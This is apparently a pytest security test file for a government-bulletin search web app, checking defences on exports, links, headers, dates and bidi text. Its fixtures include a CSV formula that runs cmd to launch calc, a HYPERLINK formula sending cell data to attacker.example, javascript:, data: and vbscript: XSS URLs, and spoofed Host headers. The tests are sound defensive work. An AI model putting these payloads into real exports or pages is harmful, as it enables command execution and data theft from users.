"""Hostile clients and hostile data against the web app: exports, repeated filters, CSV formulas,
links from the corpus, absolute URLs, caching, item-page highlighting, bad dates, bidi names, ids, framing, paths."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import shutil
import socket
import sys
import time
import tracemalloc
from pathlib import Path
from urllib.parse import quote

import pytest

from search import item_path
from tests.conftest import CORPUS, build_index
from tests.serving import in_thread
from webapp import create_app
from webapp.pages import FORMULA_STARTS

PUBLIC = "https://jianbao.example.gov.cn"
PORTAL = "https://portal.example.gov.cn"
HOSTILE_HEADERS = {"Host": "evil.example", "X-Forwarded-Host": "evil-forwarded.example",
                   "X-Forwarded-Proto": "gopher", "X-Forwarded-For": "10.6.6.6"}
FORMULA = {"id": "=cmd|' /C calc'!A0", "title": '=HYPERLINK("http://attacker.example/?x="&A1,"点击")',
           "body": "+SUM(1,2)、正文。", "department": "@区教育局", "issue": "-2+3期", "source": "\t来源",
           "date": "2022-03-01"}
BAD_URLS = ["javascript:alert(document.domain)", " javascript:alert(1)", "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]
BIG_BODY = "a" * 500_000
BIDI = "\u202e"


def _records() -> list[dict]:
    records = [FORMULA,
               {"id": "docs/2022/a", "title": "含斜杠编号的条目", "body": "正文、内容。", "date": "2022-05-01"},
               {"id": "q?x#y", "title": "问号井号编号", "body": "正文、内容。", "url": "https://www.gov.cn/x?a=1"},
               {"id": "bidi", "title": "双向控制单位", "body": "正文、内容。", "department": f"区教{BIDI}育局"},
               {"id": "bidi-text", "title": f"双向{BIDI}控制标题", "body": f"正文{BIDI}含有控制、内容。",
                "issue": f"双向{BIDI}第1期", "date": "2023-02-01"},
               {"id": "plain", "title": "普通单位", "body": "正文、内容。", "department": "区教育局"},
               {"id": "big", "title": "重复文本", "body": BIG_BODY + "、", "date": "2012-01-01"},
               {"id": "surrogate", "title": "代理\ud800标题", "body": "正文\udfff、内容。", "department": "区财政局\ud83d"}]
    records += [{"id": f"bad-url-{n}", "title": f"坏链接{n}", "body": "正文、内容。", "url": url}
                for n, url in enumerate(BAD_URLS)]
    return records


@pytest.fixture(scope="module")
def archive(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-archive")
    lines = [json.dumps(r) for r in _records()]  # ASCII escapes: the lone surrogates stay as JSON has them
    (folder / "records.jsonl").write_text("\n".join(lines) + "\n", encoding="ascii")
    shutil.copy(CORPUS / "004_25bc5815877f9951.txt", folder / "issue.txt")
    return folder


@pytest.fixture(scope="module")
def hostile_index(archive, tmp_path_factory) -> Path:
    return build_index([archive], tmp_path_factory.mktemp("hostile-index"))


def _app(index: Path, **config):
    return create_app({"INDEX_DIR": str(index), "TESTING": True, **config})


@pytest.fixture(scope="module")
def hostile(hostile_index):
    return _app(hostile_index).test_client()


def _csv(text: str) -> list[list[str]]:
    csv.field_size_limit(len(text))
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _export(client, query: str = "", **kwargs) -> str:
    """The text of an export, its response closed as a WSGI server closes it (which frees its slot)."""
    with client.get("/export.csv" + query, **kwargs) as r:
        assert r.status_code == 200
        return r.get_data(as_text=True)


# Finding 2: exports.

def test_exports_beyond_the_slots_get_a_429_json_error_until_one_ends(hostile_index):
    client = _app(hostile_index, EXPORT_SLOTS=1).test_client()
    first = client.get("/export.csv?q=正文", buffered=False)
    assert first.status_code == 200
    second = client.get("/export.csv?q=正文")
    assert second.status_code == 429 and second.headers["Retry-After"]
    assert second.json["error"]["code"] == "too_many_requests" and "1 exports" in second.json["error"]["message"]
    first.close()
    assert "正文" in _export(client, "?q=正文")


def test_export_is_selected_within_the_query_budget(hostile_index):
    client = _app(hostile_index, QUERY_BUDGET_MS=1e-6).test_client()
    r = client.get("/export.csv?q=正文")
    assert r.status_code == 400 and r.json["error"]["code"] == "query_too_expensive"
    assert "正文" in _export(_app(hostile_index, EXPORT_SLOTS=1).test_client(), "?q=正文")


def test_export_is_cut_at_the_row_cap_with_a_note(hostile, monkeypatch):
    monkeypatch.setattr(sys.modules["webapp.pages"], "MAX_EXPORT_ROWS", 2)
    total = hostile.get("/api/search?q=正文").json["total"]
    rows = _csv(_export(hostile, "?q=正文"))
    assert total > 2 and len(rows) == 1 + 2 + 1
    assert f"共 {total} 条" in rows[-1][0] and "导出限 2 条" in rows[-1][0]




def _get(port: int, path: str) -> tuple[int, bytes, float]:
    started = time.monotonic()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    conn.request("GET", quote(path, safe="/?=&"))
    response = conn.getresponse()
    body = response.read()
    conn.close()
    return response.status, body, time.monotonic() - started


def test_a_client_that_does_not_read_an_export_holds_its_slot_only_for_the_export_time(hostile_index):
    """A real waitress server with small buffers: the stalled export blocks its thread, yet after
    EXPORT_SECONDS its slot is free, and when its client reads at last the file ends with the cut note."""
    app = _app(hostile_index, EXPORT_SLOTS=1, EXPORT_SECONDS=2)
    with in_thread(app, outbuf_high_watermark=64 * 1024) as (server, port):
        server.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 16 * 1024)  # accepted sockets inherit it
        stalled = socket.socket()
        stalled.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        stalled.connect(("127.0.0.1", port))
        stalled.sendall(b"GET /export.csv?sort=date_asc HTTP/1.1\r\nHost: x\r\n\r\n")  # the 500 KB row first
        time.sleep(0.5)
        status, body, _ = _get(port, "/export.csv?q=正文")
        assert status == 429 and json.loads(body)["error"]["code"] == "too_many_requests"
        status, _, seconds = _get(port, "/api/search?q=正文")
        assert status == 200 and seconds < 1
        time.sleep(2)
        status, body, _ = _get(port, "/export.csv?q=正文")
        assert status == 200 and "正文" in body.decode("utf-8")
        stalled.settimeout(10)
        received = b""
        while b"\r\n0\r\n\r\n" not in received[-16:]:  # the chunked response's end
            chunk = stalled.recv(1 << 16)
            if not chunk:
                break
            received += chunk
        stalled.close()
        assert "导出超过 2 秒" in received.decode("utf-8", errors="replace")


# Finding 3: repeated filters.

def test_six_thousand_five_hundred_year_values_are_a_quick_400_without_memory(hostile):
    query = "&".join(f"year={n:04d}" for n in range(6500))
    assert len(query) < 64 * 1024  # under the query-string limit: validation answers, not the size check
    hostile.get("/search?year=2022")  # warm up
    for path in ("/search", "/api/search", "/embed", "/export.csv"):
        seconds = []
        for _ in range(3):  # the best of three: the machine is shared
            started = time.monotonic()
            r = hostile.get(f"{path}?{query}")
            seconds.append(time.monotonic() - started)
            assert r.status_code == 400, path
        assert min(seconds) < 0.05, (path, seconds)
        tracemalloc.start()
        hostile.get(f"{path}?{query}")
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 8 * 2**20, (path, peak)
    repeated = hostile.get("/api/search?" + "&".join(["year=2022"] * 6500))
    assert repeated.status_code == 200 and repeated.json["query"]["year"] == ["2022"]


# Finding 4: CSV formula injection.

def test_no_exported_cell_starts_a_formula_in_any_column(hostile):
    rows = _csv(_export(hostile))
    header, data = rows[0], rows[1:]
    assert len(data) >= 10
    for row in data:
        for column, cell in zip(header, row):
            assert cell[:1] not in FORMULA_STARTS, (column, cell)
    row = dict(zip(header, next(r for r in data if r[0] == "'" + FORMULA["id"])))
    for column, header in (("title", "标题"), ("body", "正文"), ("issue", "期次"), ("source", "来源文件")):
        assert row[header] == "'" + FORMULA[column]
    assert row["单位"] == "'@区教育局" and row["原文署名"] == "'@区教育局"


# Finding 5: lone surrogates reach no page as an error.

def test_pages_answer_items_whose_fields_held_lone_surrogates(hostile):
    for path in ("/", "/search?q=代理", "/api/search", "/embed", "/items/surrogate", "/api/items/surrogate",
                 "/export.csv", "/api/suggest?q=区财政局"):
        with hostile.get(path) as r:
            assert r.status_code == 200, path
    item = hostile.get("/api/items/surrogate").json["item"]
    assert item["title"] == "代理\ufffd标题" and item["departments"] == ["区财政局\ufffd"]


# Finding 6: only http(s) URLs from the corpus become links.

def test_only_http_and_https_urls_become_links(hostile):
    for n in range(len(BAD_URLS)):
        page = hostile.get(f"/items/bad-url-{n}").get_data(as_text=True)
        hrefs = re.findall(r'href="([^"]*)"', page)
        assert not [h for h in hrefs if re.match(r"\s*(java|data:|vbscript)", h, re.I)], hrefs
    page = hostile.get(item_path("q?x#y")).get_data(as_text=True)
    assert 'href="https://www.gov.cn/x?a=1"' in page


# Finding 10: absolute URLs from the configured public URL only; Cache-Control.

def test_absolute_urls_come_from_the_public_url_setting_never_from_headers(hostile_index):
    for public in (PUBLIC, ""):
        client = _app(hostile_index, PUBLIC_URL=public).test_client()
        opensearch = client.get("/opensearch.xml", headers=HOSTILE_HEADERS).get_data(as_text=True)
        embed = client.get("/embed?q=正文", headers=HOSTILE_HEADERS).get_data(as_text=True)
        export = _export(client, "?q=正文", headers=HOSTILE_HEADERS)
        for text in (opensearch, embed, export):
            assert "evil" not in text and "gopher" not in text
        assert f'template="{public}/search?q={{searchTerms}}"' in opensearch
        assert f'href="{public}/items/plain?' in embed and f'href="{public}/search?q=' in embed
        rows = _csv(export)
        urls = [row[rows[0].index("链接")] for row in rows[1:]]
        assert urls and all(u == public + item_path(row[0].removeprefix("'")) for u, row in zip(urls, rows[1:]))


def test_cache_control_on_pages_api_and_export(hostile):
    expected = {"/search?q=正文": "private, max-age=60", "/items/plain": "private, max-age=60",
                "/embed": "private, max-age=60", "/api/search?q=正文": "private, max-age=60",
                "/api/items/plain": "private, max-age=60", "/export.csv?q=正文": "no-store",
                "/api/health": "no-store", "/api/search?year=x": "no-store", "/items/none": "no-store",
                "/opensearch.xml": "public, max-age=86400", "/api/openapi.json": "public, max-age=86400"}
    for path, value in expected.items():
        with hostile.get(path) as r:
            assert r.headers["Cache-Control"] == value, path


# Finding 11: item-page highlighting is bounded.

def test_item_page_highlighting_of_a_huge_repetitive_body_is_quick(hostile):
    for q, status in (("a" * 3999 + "b", 400), ("a" * 499 + "b", 200), ("aaaa", 200)):
        started = time.monotonic()
        r = hostile.get("/items/big", query_string={"q": q})
        assert r.status_code == status and time.monotonic() - started < 1.5, (len(q), time.monotonic() - started)
    assert "<mark>aaaa" in r.get_data(as_text=True)  # highlighting still works


def test_search_snippets_of_a_huge_repetitive_body_are_quick(hostile):
    q = "a" * 200 + "b OR 重复文本"  # the big item is a hit (by its title); its snippet is looked for in the body
    for path in ("/search", "/api/search"):
        started = time.monotonic()
        r = hostile.get(path, query_string={"q": q})
        assert r.status_code == 200 and time.monotonic() - started < 1.5, (path, time.monotonic() - started)
    hit = next(h for h in r.json["hits"] if h["id"] == "big")
    assert hit["title_html"] == "<mark>重复文本</mark>"


# Finding 12: valid-looking years and dates are 400s with a message.

@pytest.mark.parametrize("param", ["year=²⁰²²", "year=٢٠٢٢", "date_from=2022-W01-1", "date_to=2022W011",
                                   "date_from=2022-001-1", "date_to=２０２２-01-01"])
def test_bad_years_and_dates_are_400_naming_the_parameter(hostile, param):
    name = param.split("=")[0]
    for path in ("/api/search", "/export.csv"):
        r = hostile.get(f"{path}?{param}")
        assert r.status_code == 400 and r.json["error"]["message"].startswith(name), (path, r.status_code)
    for path in ("/search", "/embed"):  # pages leave out a bad date with a warning (webapp.hints.page_query)
        r = hostile.get(f"{path}?{param}")
        page = r.get_data(as_text=True)
        if name == "year":
            assert r.status_code == 400 and '<section class="error">' in page, path
        elif path == "/search":
            assert r.status_code == 200 and "未能使用，已忽略" in page, path
        else:  # the embed has no room for the warning: the date is left out
            assert r.status_code == 200 and name not in page, path


# Finding 13: bidi names, ids in URLs, framing, paths.

def test_bidi_controls_are_removed_from_department_names(hostile):
    names = [v["value"] for v in hostile.get("/api/search").json["facets"]["department"]]
    assert not [n for n in names if re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", n)]
    assert names.count("区教育局") == 1
    found = {h["id"] for h in hostile.get("/api/search?department=区教育局&size=100").json["hits"]}
    assert {"bidi", "plain"} <= found


def test_bidi_controls_are_removed_from_record_titles_bodies_and_issues(hostile):
    bidi = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
    item = hostile.get("/api/items/bidi-text").json["item"]
    assert (item["title"], item["issue"]) == ("双向控制标题", "双向第1期") and "正文含有控制" in item["body"]
    page = hostile.get("/items/bidi-text").get_data(as_text=True)
    assert "<title>双向控制标题" in page and re.search(r"<h1[^>]*>\s*双向控制标题", page)
    surfaces = [page, hostile.get("/search?q=双向控制").get_data(as_text=True),
                hostile.get("/feed.atom?q=双向控制").get_data(as_text=True), _export(hostile, "?q=双向控制")]
    assert all("双向控制标题" in re.sub("<[^>]+>", "", text) and not bidi.search(text) for text in surfaces)


def test_ids_with_slashes_and_reserved_characters_open(hostile):
    for item_id in ("docs/2022/a", "q?x#y", FORMULA["id"]):
        hit = next(h for h in hostile.get("/api/search?size=100").json["hits"] if h["id"] == item_id)
        assert hit["url"] == item_path(item_id) and not set("?#/ |'") & set(hit["url"].removeprefix("/items/"))
        assert hostile.get(hit["url"]).status_code == 200
        assert hostile.get("/api" + hit["url"]).json["item"]["id"] == item_id
    assert hostile.get("/items/docs/2022/a").status_code == 200


def test_only_embed_can_be_framed_and_only_by_listed_origins(hostile_index):
    client = _app(hostile_index, FRAME_ORIGINS=[PORTAL]).test_client()
    embed = client.get("/embed")
    assert f"frame-ancestors 'self' {PORTAL}" in embed.headers["Content-Security-Policy"]
    assert "X-Frame-Options" not in embed.headers
    for path in ("/", "/search?q=正文", "/items/plain", "/api/search"):
        r = client.get(path)
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"] and r.headers["X-Frame-Options"] == "DENY"
    unset = _app(hostile_index).test_client().get("/embed").headers["Content-Security-Policy"]
    assert unset.endswith("frame-ancestors 'self'")


def test_no_server_path_in_the_export_or_on_item_pages(hostile, archive):
    export = _export(hostile)
    hits = hostile.get("/api/search?size=100").json["hits"]
    pages = [hostile.get(h["url"]).get_data(as_text=True) for h in hits if h["id"] != "big"]
    for text in [export, *pages]:
        assert str(archive) not in text and str(archive.parent) not in text
    rows = _csv(export)
    assert {row[rows[0].index("来源文件")] for row in rows[1:]} >= {"records.jsonl", "issue.txt"}
